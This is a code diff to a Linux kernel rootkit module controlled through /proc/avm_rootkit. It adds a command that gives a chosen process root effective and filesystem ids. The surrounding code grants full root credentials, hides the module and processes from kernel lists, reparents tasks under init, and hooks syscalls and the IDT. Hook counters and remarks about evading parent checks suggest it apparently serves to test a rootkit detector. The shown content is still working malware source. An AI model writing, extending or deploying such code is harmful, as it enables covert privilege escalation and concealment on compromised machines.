@@ -7,6 +7,7 @@
  *   echo 'syscall 1' > /proc/avm_rootkit     (0 switches it off again)
  *   echo 'hide_pid 123' > /proc/avm_rootkit  (hide_pid 0: unhide)
  *   echo 'root_pid 123' > /proc/avm_rootkit  (root_pid 0: restore)
+ *   echo 'euid_pid 123' > /proc/avm_rootkit  (euid_pid 0: restore)
  *   echo 'reparent_pid 123' > /proc/avm_rootkit  (reparent_pid 0: restore)
  *   echo 'untree_pid 123' > /proc/avm_rootkit    (untree_pid 0: relink)
  *   cat /proc/avm_rootkit                    (one "name value" line each)
@@ -18,6 +19,8 @@
  * (tcp_prot.init -> a module wrapper that counts and calls the original),
  * hide_module (THIS_MODULE unlinked from the module list), hide_pid (a
  * task unlinked from the task list), root_pid (a task's cred ids set to 0),
+ * euid_pid (a task's euid and fsuid alone set to 0, its real uid left: what
+ * the exec of a set-uid root program makes),
  * reparent_pid (a task's real_parent pointed at init, the task left on its
  * parent's children list: what hides a root process under a user's from a
  * check of real_parent), untree_pid (a task taken off its parent's children
@@ -426,6 +429,7 @@ struct rk_ids {
 static struct cred *rooted_cred;
 static struct rk_ids rooted_saved;
 static pid_t rooted_pid;
+static bool rooted_euid_only;
 
 static void unroot(void)
 {
@@ -446,7 +450,7 @@ static void unroot(void)
 	put_cred(c);
 }
 
-static int root_task(pid_t nr)
+static int root_task(pid_t nr, bool euid_only)
 {
 	struct task_struct *t;
 	struct cred *c;
@@ -463,8 +467,13 @@ static int root_task(pid_t nr)
 	put_task_struct(t);
 	rooted_saved = (struct rk_ids){ c->uid, c->suid, c->euid, c->fsuid,
 					c->gid, c->sgid, c->egid, c->fsgid };
-	c->uid = c->suid = c->euid = c->fsuid = GLOBAL_ROOT_UID;
-	c->gid = c->sgid = c->egid = c->fsgid = GLOBAL_ROOT_GID;
+	if (euid_only) {
+		c->euid = c->fsuid = GLOBAL_ROOT_UID;
+	} else {
+		c->uid = c->suid = c->euid = c->fsuid = GLOBAL_ROOT_UID;
+		c->gid = c->sgid = c->egid = c->fsgid = GLOBAL_ROOT_GID;
+	}
+	rooted_euid_only = euid_only;
 	rooted_cred = c;
 	rooted_pid = nr;
 	return 0;
@@ -578,12 +587,13 @@ static int rk_show(char *buf, size_t size)
 {
 	return scnprintf(buf, size,
 			 "syscall %d\nidt %d\ntext %d\nrodata %d\nfops %d\nhide_module %d\n"
-			 "hide_pid %d\nroot_pid %d\nreparent_pid %d\nuntree_pid %d\n"
+			 "hide_pid %d\nroot_pid %d\neuid_pid %d\nreparent_pid %d\nuntree_pid %d\n"
 			 "getpid_hook_calls %d\ntcp_init_hook_calls %d\n"
 			 "tcp_prot_init %s\n"
 			 "sys_call_table 0x%lx\nidt_gate 0x%lx\ntext_byte 0x%lx\nrodata_byte 0x%lx\n",
 			 syscall_on, idt_on, text_on, rodata_on, fops_on, module_hidden,
-			 hidden_task ? hidden_task->pid : 0, rooted_pid,
+			 hidden_task ? hidden_task->pid : 0,
+			 rooted_euid_only ? 0 : rooted_pid, rooted_euid_only ? rooted_pid : 0,
 			 reparented_task ? reparented_task->pid : 0,
 			 untreed_task ? untreed_task->pid : 0,
 			 atomic_read(&getpid_calls), atomic_read(&tcp_init_calls),
@@ -632,7 +642,9 @@ static ssize_t rk_write(struct file *f, const char __user *ubuf, size_t count, l
 	else if (!strcmp(name, "hide_pid"))
 		err = hide_task(val);
 	else if (!strcmp(name, "root_pid"))
-		err = root_task(val);
+		err = root_task(val, false);
+	else if (!strcmp(name, "euid_pid"))
+		err = root_task(val, true);
 	else if (!strcmp(name, "reparent_pid"))
 		err = reparent_task(val);
 	else if (!strcmp(name, "untree_pid"))
@@ -707,7 +719,7 @@ static void __exit rk_exit(void)
 	set_fops(false);
 	set_hide_module(false);
 	hide_task(0);
-	root_task(0);
+	root_task(0, false);
 	reparent_task(0);
 	untree_task(0);
 	mutex_unlock(&rk_lock);
